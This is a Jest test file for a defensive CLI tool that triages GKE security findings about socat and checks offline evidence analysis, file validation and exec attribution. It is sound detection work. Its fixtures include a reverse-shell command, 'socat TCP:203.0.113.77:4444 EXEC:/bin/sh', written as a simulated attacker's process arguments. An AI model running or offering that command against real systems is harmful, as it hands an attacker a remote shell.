/**
 * `analyze FILE --evidence DIR` and `triage --dry-run --save-evidence DIR`,
 * as an operator runs them (a subprocess through the bin launcher): the
 * round trip against the seeded emulators gives the triage's verdict
 * offline; files shaped as the exports (the gke-audit fixtures, written as
 * gcloud prints them) decode; a missing file is a gap; a malformed one is
 * exit 2 naming the file and the field; a hostile DIR is refused.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { EVIDENCE_FILES } from '../../lib/gather/evidence.js';
import { GATHERER_SECTIONS } from '../../lib/config.js';
import { findingOn, writeEvidenceDir } from '../support/evidence.js';
import { gkeLogFixture, retarget, toSeed, type GkeLogFixture } from '../support/gke-audit.js';
import { loadJson, notificationFixture } from '../support/fixtures.js';
import { auditEntry, seedAdmin, seedAttack, startWorld, type World } from '../support/world.js';
import { baseEnv, exit, runCli } from './support.js';

const root = mkdtempSync(join(tmpdir(), 'cli-evidence-'));
let n = 0;
const freshDir = () => join(root, `case-${++n}`);

function expectOneLineError(stderr: string, message: RegExp): void {
  expect(stderr).toMatch(message);
  expect(stderr.trim().split('\n')).toHaveLength(1);
  expect(stderr).not.toMatch(/\n\s+at /);
}

function writeFinding(notification: unknown): string {
  const path = join(root, `finding-${++n}.json`);
  writeFileSync(path, JSON.stringify(notification));
  return path;
}

describe('triage --dry-run --save-evidence, then analyze --evidence', () => {
  let world: World;
  let env: Record<string, string>;
  beforeAll(async () => {
    world = await startWorld();
    env = baseEnv(world.env);
  });
  afterAll(async () => {
    await world.stop();
  });

  it.each([
    ['the attack (no exec, related findings, privileged pod)', (w: World) => seedAttack(w, new Date(Date.now() - 120_000)), {}],
    ["the admin session (an allow-listed SRE's exec running socat)", (w: World) => seedAdmin(w, new Date(Date.now() - 90_000)), {}],
    ['the attack, with log reads cut short by the page cap (kept incomplete offline)', (w: World) => seedAttack(w, new Date(Date.now() - 30_000)), { LOG_ENTRIES_MAX: '1' }],
  ])('gives the same verdict offline as the triage for %s', async (_name, seed, extra: Record<string, string>) => {
    const scenario = seed(world);
    const dir = freshDir();
    const caseEnv = { ...env, ...extra };
    const live = await runCli(['triage', scenario.findingName, '--dry-run', '--save-evidence', dir, '--json'], { env: caseEnv });
    expect(exit(live)).toMatchObject({ code: 0 });
    expect(live.stderr).toMatch(/^evidence: 12 files written to /);
    const triage = JSON.parse(live.stdout).report;

    // Every gatherer with a file answered, so every file is there, created 0600 in a 0700 directory.
    expect(readdirSync(dir).sort()).toEqual(['evidence.json', 'finding.json', ...Object.keys(EVIDENCE_FILES)].sort());
    const manifest = JSON.parse(readFileSync(join(dir, 'evidence.json'), 'utf8'));
    const cut = [
      ...(['pod', 'audit', 'node'] as const).filter((l) => triage.logs[l].truncated).map((l) => `${l}-logs.json`),
      ...(triage.logs.nodeKubernetes.truncated ? ['node-k8s-logs.json'] : []),
    ];
    expect(Object.keys(manifest.incomplete).sort()).toEqual(cut.sort());
    expect(triage.logs.pod.truncated).toBe(Boolean(extra.LOG_ENTRIES_MAX));
    expect(statSync(dir).mode & 0o777).toBe(0o700);
    for (const f of readdirSync(dir)) expect(statSync(join(dir, f)).mode & 0o777).toBe(0o600);
    // Shaped as the exports: gcloud's LogEntry JSON and ListFindingsResult, kubectl's objects and List.
    const audit = JSON.parse(readFileSync(join(dir, 'audit-logs.json'), 'utf8'));
    // With LOG_ENTRIES_MAX 1 the shared audit read (newest first, whole cluster) may hold no entry about this pod.
    if (extra.LOG_ENTRIES_MAX === undefined) expect(audit.length).toBeGreaterThan(0);
    for (const entry of audit) {
      expect(entry).toMatchObject({ timestamp: expect.stringMatching(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/), severity: 'NOTICE', protoPayload: { '@type': 'type.googleapis.com/google.cloud.audit.AuditLog', methodName: expect.any(String) } });
    }
    const related = JSON.parse(readFileSync(join(dir, 'related-findings.json'), 'utf8'));
    expect(related[0]).toMatchObject({ finding: { name: expect.any(String), eventTime: expect.stringMatching(/Z$/) } });
    expect(JSON.parse(readFileSync(join(dir, 'pod.json'), 'utf8'))).toMatchObject({ apiVersion: 'v1', kind: 'Pod' });
    expect(JSON.parse(readFileSync(join(dir, 'owners.json'), 'utf8'))).toMatchObject({ kind: 'List', items: [{ kind: 'ReplicaSet' }, { kind: 'Deployment' }] });
    expect(JSON.parse(readFileSync(join(dir, 'cluster.json'), 'utf8'))).toMatchObject({ name: 'shop-prod', status: 'RUNNING' });

    const offline = await runCli(['analyze', join(dir, 'finding.json'), '--evidence', dir], { env: caseEnv });
    expect(exit(offline)).toMatchObject({ code: 0 });
    expect(offline.stderr).toBe('');
    const report = JSON.parse(offline.stdout);
    expect(report.verdict).toEqual(triage.verdict);
    expect(report.attribution).toEqual(triage.attribution);
    for (const key of ['pod', 'node', 'relatedFindings', 'c2', 'lineage', 'runbook'] as const) expect(report[key]).toEqual(triage[key]);
    expect(report.cluster.details).toEqual(triage.cluster.details);
    for (const log of ['pod', 'audit', 'node'] as const) {
      const { source, ...rest } = report.logs[log];
      expect(rest).toEqual(triage.logs[log]);
      expect(source).toMatch(triage.logs[log].truncated ? /an incomplete read of the window .*: more entries matched than were read/ : /taken as the complete read of the window/);
    }
    // The only gap offline is the one section that has no evidence file.
    expect(report.gaps).toEqual([{ section: 'contacts', reason: 'not gathered: Essential Contacts have no evidence file' }]);
  });

  it('refuses a DIR that is not empty, a symbolic link or a file, before gathering anything', async () => {
    const scenario = seedAttack(world, new Date(Date.now() - 60_000));
    const full = freshDir();
    mkdirSync(full);
    writeFileSync(join(full, 'notes.txt'), 'keep me');
    const link = freshDir();
    symlinkSync(full, link);
    const file = join(root, 'plain-file');
    writeFileSync(file, 'x');
    const orphan = join(root, 'no-such-parent', 'dir');
    for (const [dir, message] of [
      [full, /is not empty; evidence is never written over other files/],
      [link, /is a symbolic link/],
      [file, /exists and is not a directory/],
      [orphan, /its parent directory does not exist/],
    ] as const) {
      world.logging.clearRequestLog();
      world.scc.clearRequestLog();
      const r = await runCli(['triage', scenario.findingName, '--dry-run', '--save-evidence', dir], { env });
      expect(exit(r)).toMatchObject({ code: 2 });
      expectOneLineError(r.stderr, message);
      expect([world.scc.requests().length, world.logging.requests().length]).toEqual([0, 0]);
    }
    expect(readdirSync(full)).toEqual(['notes.txt']);
    expect(readFileSync(join(full, 'notes.txt'), 'utf8')).toBe('keep me');
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
  });
});

describe('analyze --evidence on exports', () => {
  // The gke-audit fixtures' cluster, pod and node (test/fixtures/gke-audit/SOURCES.md).
  const target = {
    project: 'shop-prod',
    location: 'europe-west1',
    cluster: 'prod-eu',
    namespace: 'shop',
    pod: 'checkout-7d9f8b6c5-x2x4q',
    node: 'gke-prod-eu-default-pool-1a2b3c4d-x9z8',
    eventTime: '2026-11-27T09:57:30Z',
  };
  const fixture = (name: string) => loadJson<Record<string, unknown>[]>(`test/fixtures/gke-audit/${name}.json`);
  const auditFixtures = ['pod-create', 'exec-spdy', 'attach', 'debug-ephemeral', 'exec-websocket', 'exec-refused'];
  const nodeJson = {
    apiVersion: 'v1',
    kind: 'Node',
    metadata: { name: target.node, annotations: { 'container.googleapis.com/instance_id': '7301945518849213871' }, labels: { 'cloud.google.com/gke-nodepool': 'default-pool' } },
    status: { nodeInfo: { osImage: 'Container-Optimized OS from Google', kernelVersion: '6.6.93+', containerRuntimeVersion: 'containerd://1.7.28' } },
  };

  it('decodes LogEntry as gcloud logging read --format=json prints it (RFC 3339, inline "@type", newest first), as the complete read of the window', async () => {
    const entries = auditFixtures.flatMap(fixture);
    const dir = writeEvidenceDir(freshDir(), {
      auditLogs: entries,
      nodeLogs: [...fixture('node-journald-kubelet'), ...fixture('node-journald-containerd'), ...fixture('gce-serial')],
      files: { 'node.json': nodeJson },
    });
    const r = await runCli(['analyze', writeFinding(findingOn(target)), '--evidence', dir]);
    expect(exit(r)).toMatchObject({ code: 0 });
    const report = JSON.parse(r.stdout);
    const audit = report.logs.audit;
    expect(audit).toMatchObject({ count: entries.length, truncated: false, source: expect.stringMatching(/^audit-logs\.json, taken as the complete read of the window 2026-11-27T09:25:00\.000Z to 2026-11-27T10:10:00\.000Z/) });
    // The file was newest first; the excerpts read oldest first, as the gatherer queries.
    const shown = [...audit.first, ...audit.last];
    expect(shown.map((l: { timestamp: string }) => l.timestamp)).toEqual([...shown.map((l: { timestamp: string }) => l.timestamp)].sort());
    expect(shown[0]).toMatchObject({ timestamp: '2026-11-27T08:12:44.205913Z', text: expect.stringMatching(/^io\.k8s\.core\.v1\.pods\.create on core\/v1\/namespaces\/shop\/pods/) });
    const refused = shown.find((l: { text: string }) => /bob@shop-prod\.example/.test(l.text));
    expect(refused?.text).toMatch(/io\.k8s\.core\.v1\.pods\.exec\.get .* from 203\.0\.113\.77 \(failed with status 7\)$/);
    // The SPDY exec, before the finding, is a session into the pod.
    expect(audit.execs).toEqual(expect.arrayContaining([expect.objectContaining({ method: 'io.k8s.core.v1.pods.exec.create', time: '2026-11-27T09:51:12.318204Z', pod: target.pod, namespace: 'shop' })]));
    expect(audit.filter).toContain('resource.labels.cluster_name="prod-eu"');
    // The node's instance id names the query; journald entries show their MESSAGE.
    expect(report.logs.node).toMatchObject({ count: 3, truncated: false, filter: expect.stringContaining('resource.labels.instance_id="7301945518849213871"') });
    expect(JSON.stringify(report.logs.node.first)).toMatch(/SyncLoop \(PLEG\)/);
    expect(report.gaps.map((g: { section: string }) => g.section).sort()).toEqual(['cluster', 'contacts', 'namespace', 'nodeK8sLogs', 'pod', 'podLogs', 'relatedFindings']);
  });

  it('node-k8s-logs.json: k8s_node journald entries as gcloud prints them, read by node name, show their MESSAGE', async () => {
    const dir = writeEvidenceDir(freshDir(), { files: { 'node-k8s-logs.json': [...fixture('node-journald-containerd'), ...fixture('node-journald-kubelet')] } });
    const r = await runCli(['analyze', writeFinding(findingOn(target)), '--evidence', dir]);
    expect(exit(r)).toMatchObject({ code: 0 });
    const report = JSON.parse(r.stdout);
    const k8s = report.logs.nodeKubernetes;
    expect(k8s.filter).toContain(`resource.labels.node_name="${target.node}"`);
    expect(k8s.filter).toContain('resource.type="k8s_node"');
    expect(k8s.count).toBe(2);
    const lines = [...k8s.first, ...k8s.last].map((l: { text: string }) => l.text);
    expect(lines).toEqual(expect.arrayContaining([expect.stringMatching(/^kubelet: I1127 09:55:41\.117188 +1912 kubelet\.go:2468\] "SyncLoop \(PLEG\)/), expect.stringMatching(/^containerd: /)]));
    expect(lines.join('\n')).not.toContain('_BOOT_ID');
    expect(report.gaps.map((g: { section: string }) => g.section)).not.toContain('nodeK8sLogs');
  });

  it('the world\'s own audit entries read through --evidence as the emulator serves them', async () => {
    const eventTime = new Date('2026-11-27T10:00:00Z');
    const n2 = structuredClone(loadJson('test/fixtures/notifications/socat-admin-v2.json'));
    n2.finding.eventTime = eventTime.toISOString();
    const exec = auditEntry(
      '2026-11-27T09:59:15Z',
      'io.k8s.core.v1.pods.exec.create',
      'core/v1/namespaces/payments/pods/ledger-6f8b9c7d5-p4k2m/exec?command=socat&command=TCP%3A10.128.0.15%3A9001&container=ledger',
      'alice.sre@example.com',
      '198.51.100.23',
      'kubectl/v1.29.4 (linux/amd64) kubernetes/55f2bc2',
    );
    const dir = writeEvidenceDir(freshDir(), { auditLogs: [exec] });
    const r = await runCli(['analyze', writeFinding(n2), '--evidence', dir], { env: baseEnv({ ADMIN_PRINCIPALS: 'alice.sre@example.com' }) });
    expect(exit(r)).toMatchObject({ code: 0 });
    const report = JSON.parse(r.stdout);
    expect(report.attribution).toMatchObject({ kind: 'interactive_exec_by_person', exec: { principal: 'alice.sre@example.com', mentionsSocat: true } });
    // Severity is printed by name, as gcloud does.
    expect(report.logs.audit.first[0]).toMatchObject({ timestamp: '2026-11-27T09:59:15Z', severity: 'NOTICE' });
  });

  it('reads related findings as gcloud scc findings list --format=json prints them: ListFindingsResult {finding, resource} in proto3 JSON', async () => {
    // A listed result carries the same Finding JSON SCC publishes in a notification (test/fixtures/notifications).
    const n = findingOn(target);
    const sibling = structuredClone(n);
    sibling.finding.name = sibling.finding.name.replace(/findings\/[^/]+$/, 'findings/0a1b2c3d4e5f60718293a4b5c6d7e8f9');
    sibling.finding.canonicalName = sibling.finding.name;
    sibling.finding.category = 'Execution: Added Binary Executed';
    sibling.finding.eventTime = '2026-11-27T09:55:58.120Z';
    const farAway = structuredClone(sibling);
    farAway.finding.name = farAway.finding.name.replace(/findings\/[^/]+$/, 'findings/ffffffffffffffffffffffffffffffff');
    farAway.finding.eventTime = '2026-11-27T06:00:00Z';
    const dir = writeEvidenceDir(freshDir(), { files: { 'related-findings.json': [n, sibling, farAway].map((x) => ({ finding: x.finding, resource: x.resource })) } });
    const r = await runCli(['analyze', writeFinding(n), '--evidence', dir]);
    expect(exit(r)).toMatchObject({ code: 0 });
    const related = JSON.parse(r.stdout).relatedFindings;
    // The finding itself is never its own relative; one outside the window is not counted.
    expect(related).toMatchObject({ windowMinutes: 60, truncated: false, otherInClusterCount: 0, countsByCategory: { 'Execution: Added Binary Executed': 1 } });
    expect(related.sameContainer).toEqual([expect.objectContaining({ category: 'Execution: Added Binary Executed', eventTime: '2026-11-27T09:55:58.120Z', pod: target.pod, severity: 'CRITICAL', state: 'ACTIVE' })]);
  });

  it('takes every missing file as a gap, worded as an unavailable gatherer, with the export that produces it', async () => {
    const dir = freshDir();
    mkdirSync(dir);
    const r = await runCli(['analyze', writeFinding(findingOn(target)), '--evidence', dir]);
    expect(exit(r)).toMatchObject({ code: 0 });
    const report = JSON.parse(r.stdout);
    const gaps = Object.fromEntries(report.gaps.map((g: { section: string; reason: string }) => [g.section, g.reason]));
    expect(Object.keys(gaps).sort()).toEqual([...GATHERER_SECTIONS].sort());
    expect(gaps.cluster).toBe('not gathered: cluster.json is not in the evidence directory (gcloud container clusters describe --format=json)');
    expect(gaps.pod).toBe('not gathered: pod.json is not in the evidence directory (kubectl get pod POD -n NAMESPACE -o json)');
    expect(gaps.auditLogs).toMatch(/^not gathered: audit-logs\.json is not in the evidence directory \(gcloud logging read --format=json with the filter logName="projects\/shop-prod\/logs\/cloudaudit\.googleapis\.com%2Factivity" .* timestamp>="2026-11-27T09:25:00\.000Z" timestamp<="2026-11-27T10:10:00\.000Z"\)$/);
    expect(gaps.nodeLogs).toBe('needs node, which is unavailable');
    expect(report.attribution.kind).toBe('unknown');
    expect(report.verdict.unavailable.join('\n')).toMatch(/attribution: audit logs/);
  });

  it.each([
    ['a log file that is not an array', { 'audit-logs.json': { entries: [] } }, /^scc-socat-triage: evidence file audit-logs\.json: field \(root\): expected a JSON array of LogEntry objects, got an object\n$/],
    ['a numeric timestamp', { 'pod-logs.json': [{ timestamp: 1764237460, textPayload: 'x' }] }, /evidence file pod-logs\.json: field \[0\]\.timestamp: expected an RFC 3339 timestamp/],
    ['a protoPayload without "@type"', { 'audit-logs.json': [{ timestamp: '2026-11-27T09:55:40Z', protoPayload: { methodName: 'io.k8s.core.v1.pods.exec.get' } }] }, /evidence file audit-logs\.json: field \[0\]\.protoPayload: expected an object with its "@type"/],
    ['a status code that is not a number', { 'audit-logs.json': [{ protoPayload: { '@type': 'type.googleapis.com/google.cloud.audit.AuditLog', status: { code: 'PERMISSION_DENIED' } } }] }, /audit-logs\.json: field \[0\]\.protoPayload\.status\.code: expected a google\.rpc\.Code number/],
    ['invalid JSON', { 'node-logs.json': '[{"timestamp": ' }, /evidence file node-logs\.json: not valid JSON/],
    ['a List where one Pod belongs', { 'pod.json': { apiVersion: 'v1', kind: 'List', items: [] } }, /evidence file pod\.json: field kind: .*expected one Pod, as kubectl get pod NAME -n NAMESPACE -o json prints it/],
    ['containers that are not an array', { 'pod.json': { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'checkout-7d9f8b6c5-x2x4q' }, spec: { containers: 5 } } }, /evidence file pod\.json: field spec\.containers: /],
    ['another pod', { 'pod.json': { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'web-1' } } }, /evidence file pod\.json: field metadata\.name: names pod "web-1", but the finding's pod is "checkout-7d9f8b6c5-x2x4q"/],
    ['owners that are not a List', { 'pod.json': { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'checkout-7d9f8b6c5-x2x4q' } }, 'owners.json': [] }, /evidence file owners\.json: field \(root\): .*expected a List/],
    ['a node label that is not a string', { 'node.json': { kind: 'Node', metadata: { name: 'gke-prod-eu-default-pool-1a2b3c4d-x9z8', labels: { zone: 7 } } } }, /evidence file node\.json: field metadata\.labels\.zone: /],
    ['a node pool name that is not a string', { 'cluster.json': { name: 'prod-eu', nodePools: [{ name: 'ok' }, { name: 5 }] } }, /evidence file cluster\.json: field nodePools\[1\]\.name: not valid in a Cluster/],
    ['a related finding with a numeric eventTime', { 'related-findings.json': [{ finding: { name: 'organizations/1/sources/2/findings/x', eventTime: 5 } }] }, /evidence file related-findings\.json: field \[0\]\.finding\.eventTime: not valid in a Finding: google\.protobuf\.Timestamp must be a string/],
    ['a manifest naming a file that is not read page by page', { 'evidence.json': { schemaVersion: 1, incomplete: { 'pod.json': 'x' } } }, /evidence file evidence\.json: field incomplete\.pod\.json: not a file read page by page/],
    ['a misspelt file name', { 'audit-log.json': [] }, /evidence file audit-log\.json: not a file --evidence reads \(known: related-findings\.json, /],
  ])('exits 2 naming the file and the field for %s', async (_name, files, message) => {
    const dir = writeEvidenceDir(freshDir(), { files });
    const r = await runCli(['analyze', writeFinding(findingOn(target)), '--evidence', dir]);
    expect(exit(r)).toMatchObject({ code: 2 });
    expect(r.stdout).toBe('');
    expectOneLineError(r.stderr, message);
  });

  it('exits 2 when DIR is not a directory', async () => {
    const r = await runCli(['analyze', writeFinding(findingOn(target)), '--evidence', join(root, 'nope')]);
    expect(exit(r)).toMatchObject({ code: 2 });
    expectOneLineError(r.stderr, /--evidence ".*nope": cannot read it: ENOENT/);
  });
});

describe('the attribution cases of test/gather/audit-entries.test.ts, through analyze --evidence', () => {
  // The same finding, cluster, fixtures and edits as there, exported instead of served by the emulator.
  const TARGET = { project: 'shop-prod-4711', cluster: 'shop-prod', location: 'us-central1', namespace: 'shop', pod: 'checkout-7d9fb6c5d4-x2lqp', eventTime: '2026-11-27T02:41:17.532941Z' };
  const env = baseEnv({ ADMIN_PRINCIPALS: 'alice@shop-prod.example,bob@shop-prod.example' });
  const SOCAT = { name: 'socat', path: '/usr/bin/socat', args: ['socat', 'TCP:203.0.113.77:4444', 'EXEC:/bin/sh'], pid: 4120, parentPid: 4101 };
  const JAVA_SH_SOCAT = [
    { name: 'java', path: '/opt/java/openjdk/bin/java', args: ['java', '-jar', '/app/checkout.jar'], pid: 1, parentPid: 0 },
    { name: 'sh', path: '/bin/sh', args: ['sh', '-c', 'socat TCP:203.0.113.77:4444 EXEC:/bin/sh'], pid: 4101, parentPid: 1 },
    SOCAT,
  ];
  const EXEC_SH_SOCAT = [{ name: 'sh', path: '/bin/sh', args: ['/bin/sh'], pid: 4101, parentPid: 0 }, SOCAT];
  const notification = (processes: typeof EXEC_SH_SOCAT) => {
    const n = structuredClone(notificationFixture('socat-v2'));
    n.finding.eventTime = TARGET.eventTime;
    n.finding.processes = processes.map((p) => ({ name: p.name, binary: { path: p.path }, args: p.args, pid: String(p.pid), parentPid: String(p.parentPid) }));
    return n;
  };
  const entries = (name: GkeLogFixture, edit: (e: Record<string, any>) => void = () => {}) =>
    gkeLogFixture(name).map((e) => {
      const moved = retarget(e, TARGET);
      edit(moved);
      return toSeed(moved);
    });

  it.each([
    ['a kubectl >= 1.30 exec (pods.exec.get) explains socat', entries('exec-websocket', (e) => (e.labels['command.gke.io/command'] = '/bin/sh')), EXEC_SH_SOCAT, 'interactive_exec_by_person', ['exec_by_admin'], ['no_exec_found']],
    ["an allow-listed admin's refused exec is never the explanation", entries('exec-refused'), EXEC_SH_SOCAT, 'no_exec_found', ['refused_pod_entry', 'no_exec_found'], ['exec_by_admin']],
    ["an admin's exec does not explain socat the application started", entries('exec-spdy'), JAVA_SH_SOCAT, 'no_exec_found', [], ['exec_by_admin']],
  ])('%s', async (_name, audit, processes, kind, present: string[], absent: string[]) => {
    const dir = writeEvidenceDir(freshDir(), { auditLogs: audit });
    const r = await runCli(['analyze', writeFinding(notification(processes)), '--evidence', dir], { env });
    expect(exit(r)).toMatchObject({ code: 0 });
    const report = JSON.parse(r.stdout);
    const signals = report.verdict.reasons.map((x: { signal: string }) => x.signal);
    expect(report.attribution.kind).toBe(kind);
    expect(signals).toEqual(expect.arrayContaining(present));
    for (const s of absent) expect(signals).not.toContain(s);
  });

  it('an export marked incomplete (evidence.json) proves no absence: attribution is unavailable', async () => {
    const dir = writeEvidenceDir(freshDir(), {
      auditLogs: entries('exec-refused'),
      files: { 'evidence.json': { schemaVersion: 1, incomplete: { 'audit-logs.json': 'more entries matched than were read (the read budget LOG_ENTRIES_MAX / LOG_PAGES_MAX, or the deadline)' } } },
    });
    const r = await runCli(['analyze', writeFinding(notification(EXEC_SH_SOCAT)), '--evidence', dir], { env });
    expect(exit(r)).toMatchObject({ code: 0 });
    const report = JSON.parse(r.stdout);
    expect(report.logs.audit.truncated).toBe(true);
    expect(report.attribution.kind).toBe('unknown');
    expect(report.verdict.reasons.map((x: { signal: string }) => x.signal)).not.toContain('no_exec_found');
  });
});
